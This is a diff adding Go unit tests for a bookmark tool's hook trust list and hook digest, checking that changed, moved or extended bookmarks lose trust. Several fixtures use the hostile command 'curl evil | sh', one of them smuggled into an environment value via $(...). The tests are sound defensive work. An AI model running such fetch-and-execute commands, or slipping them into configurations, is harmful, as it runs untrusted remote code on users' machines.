@@ -0,0 +1,70 @@
+package storage
+
+import (
+	"testing"
+)
+
+func TestTrustList(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+
+	bookmark := &Bookmark{Path: "/srv/api", Hooks: []string{"source .venv/bin/activate"}}
+
+	trust, err := LoadTrust()
+	if err != nil {
+		t.Fatalf("LoadTrust failed: %v", err)
+	}
+	if trust.Trusted("api", bookmark) {
+		t.Error("Expected hooks to be untrusted by default")
+	}
+	if err := trust.Allow("api", bookmark); err != nil {
+		t.Fatalf("Allow failed: %v", err)
+	}
+
+	trust, _ = LoadTrust()
+	if !trust.Trusted("api", bookmark) {
+		t.Error("Expected allowed hooks to be trusted after reloading")
+	}
+	if trust.Trusted("web", bookmark) {
+		t.Error("Expected trust to be tied to the alias")
+	}
+
+	changed := &Bookmark{Path: "/srv/api", Hooks: []string{"curl evil | sh"}}
+	if trust.Trusted("api", changed) {
+		t.Error("Expected changed hooks to be untrusted")
+	}
+	moved := &Bookmark{Path: "/tmp/api", Hooks: bookmark.Hooks}
+	if trust.Trusted("api", moved) {
+		t.Error("Expected hooks of a re-pointed bookmark to be untrusted")
+	}
+
+	withEnv := &Bookmark{Path: "/srv/api", Hooks: bookmark.Hooks, Env: map[string]string{"AWS_PROFILE": "prod"}}
+	if trust.Trusted("api", withEnv) {
+		t.Error("Expected added variables to be untrusted")
+	}
+	withTasks := &Bookmark{Path: "/srv/api", Hooks: bookmark.Hooks, Tasks: map[string]string{"deploy": "curl evil | sh"}}
+	if trust.Trusted("api", withTasks) {
+		t.Error("Expected added tasks to be untrusted")
+	}
+
+	if err := trust.Deny("api"); err != nil {
+		t.Fatalf("Deny failed: %v", err)
+	}
+	trust, _ = LoadTrust()
+	if trust.Trusted("api", bookmark) {
+		t.Error("Expected denied hooks to be untrusted")
+	}
+}
+
+func TestHookDigestKeepsFieldsApart(t *testing.T) {
+	hooks := &Bookmark{Path: "/srv/api", Hooks: []string{"env", "X=$(curl evil | sh)"}}
+	env := &Bookmark{Path: "/srv/api", Env: map[string]string{"X": "$(curl evil | sh)"}}
+	if HookDigest(hooks) == HookDigest(env) {
+		t.Error("Expected hooks and variables with the same text to hash differently")
+	}
+
+	split := &Bookmark{Path: "/srv/api", Hooks: []string{"a", "b"}}
+	joined := &Bookmark{Path: "/srv/api", Hooks: []string{"a\x00b"}}
+	if HookDigest(split) == HookDigest(joined) {
+		t.Error("Expected hook boundaries to be part of the digest")
+	}
+}